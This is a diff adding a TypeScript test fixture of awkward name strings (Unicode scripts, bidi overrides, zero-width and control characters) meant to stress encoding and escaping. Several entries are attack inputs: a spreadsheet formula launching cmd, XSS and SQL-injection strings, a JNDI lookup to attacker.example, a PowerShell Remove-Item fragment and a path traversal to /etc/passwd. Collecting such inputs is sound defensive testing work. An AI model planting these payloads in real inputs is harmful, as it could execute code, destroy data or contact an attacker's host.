@@ -1,0 +1,55 @@
+/** Names that break what is built carelessly: every one of them can stand in a JSON text, and so on the wire. */
+export const awkwardNames = {
+  apostrophe: "Siobhán O'Neil",
+  quotes: 'The "Second" \\ Floor / Annex',
+  accents: 'Zoë Müller-Łukasiewicz',
+  /** The same letters as another name, composed differently. */
+  decomposed: 'Zoe\u0308 Mu\u0308ller-\u0141ukasiewicz',
+  japanese: '株式会社 山田 太郎',
+  arabic: 'محمد الأحمد',
+  hebrew: 'דנה כהן',
+  hindi: 'अनन्या शर्मा',
+  russian: 'Анна Иванова',
+  greek: 'Σίσυφος ΣΊΣΥΦΟΣ',
+  thai: 'สมชาย ใจดี',
+  /** Upper and lower case differ from what English expects. */
+  turkish: 'İIıi Şahin',
+  sharpS: 'Straße GROSS',
+  emoji: 'Ops 👩‍🚒👨‍👩‍👧‍👦🏳️‍🌈',
+  /** Turns the reading direction round. */
+  override: 'invoice\u202egnp.exe',
+  zeroWidth: 'In\u200bvis\u200dible\ufeff',
+  formula: "=cmd|' /C calc'!A0",
+  formulaPlus: '+SUM(1+1)*cmd',
+  formulaAt: '@SUM(A1:A9)',
+  formulaTab: '\t=1+1',
+  html: '<script>alert("1")</script>',
+  markup: '"><img src=x onerror=alert(1)>&amp;',
+  powershell: '$(Get-Date) `n $env:PATH; Remove-Item',
+  sql: "'; DROP TABLE results;--",
+  format: '%s %n %x {0}',
+  template: '\u0024{jndi:ldap://attacker.example/a}',
+  lines: 'first line\r\nsecond\tline',
+  control: 'bell\u0007 escape\u001b[31mred',
+  /** Ends a text where it is counted to a zero, and cannot be stored where texts are. */
+  nul: 'before\u0000after',
+  /** Half a character: JSON writes it as an escape. */
+  loneSurrogate: 'half \ud83d face',
+  separators: 'line\u2028paragraph\u2029end',
+  spaces: '   padded   ',
+  empty: '',
+  long: 'x'.repeat(1000),
+  longWide: '長'.repeat(1000),
+  noBreak: 'no\u00a0break',
+  prototype: '__proto__',
+  constructor: 'constructor',
+  null: 'null',
+  boolean: 'False',
+  number: '007',
+  path: '../../etc/passwd',
+  comma: 'Doe, Jane; "JD"',
+  percent: '100%25 sure',
+  bracket: '[Contoso]*?',
+} as const
+
+export type AwkwardName = keyof typeof awkwardNames
